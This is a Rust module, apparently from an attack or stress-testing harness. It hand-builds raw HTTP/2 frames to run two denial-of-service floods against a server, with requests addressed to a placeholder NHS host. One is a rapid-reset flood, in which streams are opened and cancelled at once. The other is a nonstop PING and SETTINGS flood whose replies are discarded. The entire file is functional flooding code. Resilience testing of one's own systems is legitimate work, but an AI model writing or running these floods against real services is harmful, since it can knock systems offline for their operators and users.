//! HTTP/2 as bare frames: streams begun and reset at once, PING and SETTINGS without end.

use tokio::io::{AsyncRead, AsyncReadExt as _, AsyncWriteExt as _, split};
use tokio::net::TcpStream;
use tokio_rustls::client::TlsStream;

use super::Attacker;
use crate::support::Call;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
/// End of the headers and of the stream.
const ENDS: u8 = 0x4 | 0x1;
const CANCEL: [u8; 4] = [0, 0, 0, 8];
/// Streams, or rounds of PING and SETTINGS, in one write.
const BATCH: u32 = 50;

/// A request, and that it is not wanted after all.
pub(super) async fn resets(attacker: &Attacker, stream: TlsStream<TcpStream>) {
    let head = head(&attacker.call(Call::slots()));
    let mut next = 1;
    floods(attacker, stream, |bytes| {
        for _ in 0..BATCH {
            frame(bytes, HEADERS, ENDS, next, &head);
            frame(bytes, RST_STREAM, 0, next, &CANCEL);
            next += 2;
        }
        BATCH
    })
    .await;
}

/// Frames that want an answer each.
pub(super) async fn pings(attacker: &Attacker, stream: TlsStream<TcpStream>) {
    floods(attacker, stream, |bytes| {
        for _ in 0..BATCH {
            frame(bytes, PING, 0, 0, b"12345678");
            frame(bytes, SETTINGS, 0, 0, b"");
        }
        2 * BATCH
    })
    .await;
}

/// Writes batches as fast as they are taken; what comes back is read and forgotten.
async fn floods(
    attacker: &Attacker,
    stream: TlsStream<TcpStream>,
    mut batch: impl FnMut(&mut Vec<u8>) -> u32,
) {
    let (reader, mut writer) = split(stream);
    let writing = async {
        let mut bytes = PREFACE.to_vec();
        frame(&mut bytes, SETTINGS, 0, 0, b"");
        loop {
            let count = batch(&mut bytes);
            if writer.write_all(&bytes).await.is_err() || writer.flush().await.is_err() {
                return;
            }
            attacker.sent(count as usize);
            bytes.clear();
        }
    };
    tokio::select! {
        () = writing => {}
        () = forgets(reader) => {}
    }
}

async fn forgets(mut reader: impl AsyncRead + Unpin) {
    let mut unread = vec![0; 16 * 1024];
    while reader.read(&mut unread).await.is_ok_and(|count| count > 0) {}
}

fn frame(bytes: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    bytes.extend(&length[1..]);
    bytes.extend([kind, flags]);
    bytes.extend(stream.to_be_bytes());
    bytes.extend(payload);
}

/// A call's head in HPACK, every field written out: no table, no Huffman.
fn head(call: &Call) -> Vec<u8> {
    let bytes = call.bytes();
    let text: String = bytes.iter().map(|byte| char::from(*byte)).collect();
    let fields = text.split("\r\n").skip(1).filter_map(|line| line.split_once(": "));
    let mut head = Vec::new();
    field(&mut head, ":method", &call.method);
    field(&mut head, ":scheme", "https");
    field(&mut head, ":authority", "ssp.example.nhs.uk");
    field(&mut head, ":path", &call.target);
    for (name, value) in fields.filter(|(name, _)| *name != "Host") {
        field(&mut head, &name.to_ascii_lowercase(), value);
    }
    head
}

/// Spec: RFC 7541 §6.2.2, a literal field without indexing and with a new name.
fn field(head: &mut Vec<u8>, name: &str, value: &str) {
    head.push(0);
    for text in [name, value] {
        length(head, text.len());
        head.extend(text.as_bytes());
    }
}

/// Spec: RFC 7541 §5.1, an integer in a prefix of seven bits.
fn length(head: &mut Vec<u8>, mut length: usize) {
    let Some(mut rest) = length.checked_sub(127) else {
        return head.push(u8::try_from(length).unwrap());
    };
    head.push(127);
    length = rest & 0x7f;
    while rest >= 128 {
        head.push(u8::try_from(0x80 | length).unwrap());
        rest >>= 7;
        length = rest & 0x7f;
    }
    head.push(u8::try_from(rest).unwrap());
}
